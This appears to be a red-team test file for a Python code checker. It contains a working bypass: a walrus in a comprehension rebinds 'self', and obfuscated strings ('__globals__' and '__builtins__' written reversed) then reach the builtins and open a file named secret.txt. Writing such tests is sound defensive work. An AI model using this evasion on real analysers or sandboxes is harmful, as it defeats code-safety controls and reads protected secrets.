# family: red team, round 22 (what a method's self may be: classes reaching parameters, methods run with any self)
# Chain: objects.own_object trusts self while it resolves only to the method's parameter; here a walrus in a comprehension rebinds the method's self (it binds in the method's scope)
# before the trusted read, so self is a namedtuple when `for key in self.FIELDS` (a "class constant",
# class_constants.class_constant) runs: FIELDS is a run-time ["__globals__"] name for getattr.
from collections import namedtuple

Box = namedtuple("Box", "FIELDS")


class Reader:
    FIELDS = ("name",)

    def fetch(self, fn, box):
        [(self := box) for _ in "x"]
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out


def helper():
    return 1


def run():
    box = Box(["".join(reversed("__slabolg__"))])
    got = Reader().fetch(helper, box)[0]
    print(sorted(got.keys())[:8])
    b = got["".join(reversed("__snitliub__"))]
    print(b)
    print(getattr(b, "open")("/tmp/r22/work/secret.txt").read())


run()
